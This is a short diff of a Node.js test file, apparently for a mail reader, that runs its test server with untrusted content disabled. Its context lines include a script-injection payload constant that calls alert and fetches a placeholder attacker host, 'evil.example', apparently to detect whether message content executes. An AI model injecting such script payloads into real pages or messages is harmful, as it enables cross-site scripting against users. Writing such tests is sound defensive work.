@@ -7,7 +7,7 @@ import { after, before, test } from 'node:test';
 import { closeBrowser, DATA, mail, reader, serve } from './lib.mjs';
 
 let server;
-before(async () => void (server = await serve('box.max_messages=2000')));
+before(async () => void (server = await serve('box.max_messages=2000', 'trust.content=false')));
 after(async () => (await closeBrowser(), await server.close()));
 
 const RUN = 'top.ran=1;window.ran=1;alert(1);fetch("https://evil.example/ran")';
